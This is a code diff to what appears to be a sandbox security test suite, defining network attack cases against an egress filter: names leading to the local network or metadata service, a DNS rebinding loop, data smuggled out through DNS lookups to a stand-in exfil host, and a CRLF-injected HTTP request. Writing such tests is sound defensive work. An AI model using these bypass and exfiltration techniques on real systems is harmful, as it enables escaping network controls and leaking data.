@@ -1,6 +1,6 @@
 import type { Arrival } from "../../support/outside/events.ts";
 import type { Attack } from "../attack.ts";
-import { arrived, cgnat, insider, metadata } from "../outside-names.ts";
+import { arrived, isInside } from "../outside-names.ts";
 import type { WeakeningName } from "../weakenings.ts";
 import { direct, hosts, past } from "./network-past.ts";
 
@@ -8,21 +8,20 @@ const group = "network reachability" as const;
 const bridge = "the engine's bridge";
 const blindFilter = "a filter that checks nothing";
 
-/** Whether it came to one of those addresses that are nobody's on the internet. */
-const isInside = (arrival: Arrival): boolean =>
-  "to" in arrival && [insider, metadata, cgnat].includes(arrival.to);
+/** An attack whose arrival may have to be more than its sign. */
+export type Observed = Omit<Attack, "id"> & { readonly counts?: ((arrival: Arrival) => boolean) | undefined };
 
-type Through = readonly [
+export type Through = readonly [
   words: string,
   inside: string,
   counts?: ((arrival: Arrival) => boolean) | undefined,
   reason?: string,
 ];
-const notPublic = "leads to an address that is not public";
+export const notPublic = "leads to an address that is not public";
 const notListed = "the name is not on this session's list";
 
 /** Names that lead where nobody may go; TLS and all, so that it is the address that is refused. */
-const leading: readonly Through[] = [
+export const leading: readonly Through[] = [
   ["a name that leads to the local network", "secure insider.outside.example:443", isInside, notPublic],
   ["a name that leads to the metadata service", "secure metadata.outside.example:443", isInside, notPublic],
   [
@@ -39,7 +38,7 @@ const leading: readonly Through[] = [
   ],
   [
     "a name that leads elsewhere when it is asked again",
-    "for n in 1 2 3; do secure rebinding.outside.example:443; done",
+    "for n in 1 2 3; do secure $SIGN.rebinding.outside.example:443; done",
     isInside,
     notPublic,
   ],
@@ -104,7 +103,7 @@ const smuggled =
   "GET http://other.outside.example/mark-$SIGN HTTP/1.1\\\\r\\\\nHost: other.outside.example\\\\r\\\\n\\\\r\\\\n";
 
 /** Under `strict`, where one name is listed and the others are not. */
-const unlisted: readonly Through[] = [
+export const unlisted: readonly Through[] = [
   ["ask for a name that is not listed", "secure other.outside.example:443", undefined, notListed],
   ["have a name looked up that is not listed", "secure $SIGN.exfil.outside.example:443"],
   [
@@ -135,28 +134,27 @@ const unlisted: readonly Through[] = [
   ],
 ];
 
-const through = (
-  network: "public" | "strict",
-  list: readonly Through[],
-): (Omit<Attack, "id"> & { counts?: Through[2] })[] =>
+export const through = (network: "public" | "strict" | "none", list: readonly Through[]): Observed[] =>
   list.map(([words, inside, counts, reason]) => ({
     ...{ group, network, words: `${network}, through the filter: ${words}`, inside, weakening: blindFilter },
     ...(counts === undefined ? {} : { counts }),
-    ...(reason === undefined ? {} : { reason }),
-  })) as (Omit<Attack, "id"> & { counts?: Through[2] })[];
+    // Where there is no filter nobody gives reasons.
+    ...(reason === undefined || network === "none" ? {} : { reason }),
+  }));
 
-const toHost: Omit<Attack, "id">[] = ["gateway", "own-public", "loopback", "zero"].map((name) => ({
-  group,
-  network: "public" as const,
-  words: `public, through the filter: a name that leads to this host (${name.replace("-", " ")})`,
-  inside: `tunnel ${name}.outside.example:$WEB_PORT`,
-  weakening: blindFilter,
-}));
+export const toHost = (network: "public" | "strict" | "none"): Omit<Attack, "id">[] =>
+  ["gateway", "own-public", "loopback", "zero"].map((name) => ({
+    group,
+    network,
+    words: `${network}, through the filter: a name that leads to this host (${name.replace("-", " ")})`,
+    inside: `tunnel ${name}.outside.example:$WEB_PORT`,
+    weakening: blindFilter,
+  }));
 
 const isKnown =
   "`public` asks for any public name, and its own name server hears of that; `strict` asks for listed names alone";
 /** What is not held, and said. */
-const said: readonly (Omit<Attack, "id"> & { counts?: Through[2] })[] = [
+const said: readonly Observed[] = [
   {
     ...{ group, network: "public", words: "public: smuggle data in a name that the filter looks up" },
     ...{
@@ -192,12 +190,12 @@ const said: readonly (Omit<Attack, "id"> & { counts?: Through[2] })[] = [
   })),
 ];
 
-const observed = [...past, ...through("public", leading), ...through("strict", unlisted), ...said] as (Omit<
-  Attack,
-  "id"
-> & {
-  counts?: Through[2];
-})[];
+const observed: readonly Observed[] = [
+  ...past,
+  ...through("public", leading),
+  ...through("strict", unlisted),
+  ...said,
+];
 
 /** Attacks that are judged by who sees them arrive: name server, web server and network card of a machine outside. */
 export const networkObserved: Attack[] = [
@@ -205,7 +203,7 @@ export const networkObserved: Attack[] = [
     const id = `NET-${101 + index}`;
     return { ...attack, id, needsOutside: true, after: arrived(id, counts) };
   }),
-  ...[...hosts, ...toHost].map((attack, index) => ({
+  ...[...hosts, ...toHost("public")].map((attack, index) => ({
     ...attack,
     id: `NET-${201 + index}`,
     needsOutside: true,
